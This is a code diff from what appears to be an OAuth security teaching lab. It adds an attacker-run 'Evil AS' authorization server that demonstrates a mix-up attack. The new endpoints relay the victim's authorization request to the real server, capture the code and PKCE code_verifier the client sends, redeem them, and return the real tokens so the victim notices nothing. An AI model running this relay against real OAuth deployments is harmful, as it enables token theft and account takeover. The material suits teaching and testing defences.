@@ -11,7 +11,7 @@
 import { join } from 'node:path';
 import express, { type Express, type NextFunction, type Request, type Response } from 'express';
 import { securityHeaders } from '@oauth-demo/web';
-import { callbackWithMallorysCode, craftedRedirectUri, redeemStolenCode } from './attacks.js';
+import { callbackWithMallorysCode, craftedRedirectUri, passOnToRealServer, redeemAtRealServer, redeemStolenCode } from './attacks.js';
 import { CraftedRequests } from './flows.js';
 import type { AttackerConfig } from './config.js';
 import { LootBox, RUN_ID } from './loot.js';
@@ -147,6 +147,32 @@ export function createApp(config: AttackerConfig): AttackerApp {
     loot.add(run, { scenario: 'redirect', ...result, details: ['The code arrived at her site through the printer’s “continue to” redirect.', ...result.details] });
     res.setHeader('Cache-Control', 'no-store');
     res.render('caught', { title: 'Your filters are ready', back: `${config.printer.publicUrl}/lab/redirect` });
+  });
+
+  // Scenario 4 (mix-up): Mallory's own authorization server, "Evil AS", which the lab copy of the printer knows as
+  // a second server. Its authorization endpoint passes the request on to the real one; its token endpoint
+  // receives what the printer sends it.
+  app.get('/evil-as/authorize', (req, res) => {
+    const run = runOf(req.query.run);
+    if (run) loot.add(run, { scenario: 'mixup', success: false, summary: 'Evil AS received the printer’s request and sent your browser on to the real auth server with it.', details: [] });
+    res.redirect(303, passOnToRealServer(config, req.query));
+  });
+  app.post('/evil-as/token', express.urlencoded({ extended: false, limit: '10kb' }), async (req, res) => {
+    res.setHeader('Cache-Control', 'no-store');
+    const body = req.body as Record<string, unknown>;
+    const run = runOf(req.query.run);
+    if (typeof body.code !== 'string' || typeof body.redirect_uri !== 'string') {
+      res.status(400).json({ error: 'invalid_request' });
+      return;
+    }
+    const answer = await redeemAtRealServer(config, {
+      code: body.code,
+      redirect_uri: body.redirect_uri,
+      ...(typeof body.code_verifier === 'string' ? { code_verifier: body.code_verifier } : {}),
+    });
+    if (run) loot.add(run, { scenario: 'mixup', ...answer.redemption, details: ['The printer sent her the code and its code_verifier.', ...answer.redemption.details] });
+    // Stealth: the printer gets the real tokens back, so the victim notices nothing.
+    res.status(answer.status).json(answer.body);
   });
 
   app.use((_req, res) => {
